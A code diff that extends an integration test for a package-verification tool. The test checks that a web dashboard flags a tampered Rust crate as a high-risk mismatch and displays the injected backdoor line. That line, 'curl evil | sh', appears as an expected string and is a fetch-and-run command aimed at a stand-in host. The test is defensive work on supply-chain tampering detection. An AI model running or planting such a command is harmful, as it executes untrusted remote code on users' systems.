@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { execa } from 'execa';
+import { chromium } from 'playwright-core';
 import { commitToGitPackage, makeGitPackage } from '../fixtures/git-package.js';
 import { LocalCratesIndex, packCrate, tamperCrate } from '../fixtures/crates-index.js';
 import { Farm, ROOT } from './farm.js';
@@ -135,6 +136,23 @@ describe('crates on a farm of three workers (N=3, M=2), from a sparse index and 
     const cli = await execa('node', [QUORUM, 'diff', 'pkg:cargo/xzcrate@1.2.0', '--server', farm.url], { reject: false });
     expect(cli.exitCode, cli.stderr).toBe(0);
     expect(cli.stdout).toContain(BACKDOOR);
+
+    // an auditor sees the same in the dashboard, in Chromium: the verdict, the risk, the injected line
+    const browser = await chromium.launch({ executablePath: process.env.QUORUM_CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox'] });
+    try {
+      const page = await browser.newPage();
+      await page.route('**/*', (route) => (route.request().url().startsWith(farm.url) ? route.continue() : route.abort()));
+      await page.goto(`${farm.url}/ui/releases/${view.id}`);
+      await expect(page.locator('hgroup').textContent()).resolves.toContain('pkg:cargo/xzcrate@1.2.0');
+      await expect(page.locator('hgroup mark').textContent()).resolves.toBe('mismatch');
+      await expect(page.locator('article[aria-label="Risk summary"] header').textContent()).resolves.toBe('high risk: 1 Rust source file changed: xzcrate-1.2.0/src/lib.rs');
+      await page.getByRole('button', { name: 'What differs' }).click();
+      await page.waitForURL(/\/diff$/);
+      await expect(page.locator('summary.file-changed').first().textContent()).resolves.toBe('changed xzcrate-1.2.0/src/lib.rs');
+      await expect(page.locator('.d.add').filter({ hasText: 'curl evil | sh' }).count()).resolves.toBe(1);
+    } finally {
+      await browser.close();
+    }
   });
 
   it('calls a crate whose Cargo.toml another cargo normalized differently equivalent, naming cargo-manifest, and a changed dependency a mismatch', async () => {
